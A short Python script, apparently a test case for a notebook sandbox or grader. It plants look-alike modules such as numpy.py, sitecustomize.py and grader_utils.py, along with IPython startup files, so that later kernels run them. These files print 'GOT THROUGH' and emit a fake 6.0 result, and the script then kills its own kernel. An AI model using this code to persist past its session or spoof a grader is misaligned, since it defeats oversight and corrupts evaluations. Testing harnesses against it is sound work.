"""
tries: to leave files that the next kernel would run
stopped: it ended the notebook's kernel
"""

import os

for folder in (
    ".",
    os.path.expanduser("~"),
    os.path.expanduser("~/.ipython/profile_default/startup"),
    "../wires",
    os.environ.get("IPYTHONDIR", "."),
):
    for name in (
        "numpy.py",
        "sitecustomize.py",
        "usercustomize.py",
        "startup.py",
        "grader_utils.py",
        "ipython_config.py",
    ):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                file.write("import sys\nprint('GOT ' + 'THROUGH')\nsys.displayhook(6.0)\n")
        except OSError:
            pass
os._exit(0)
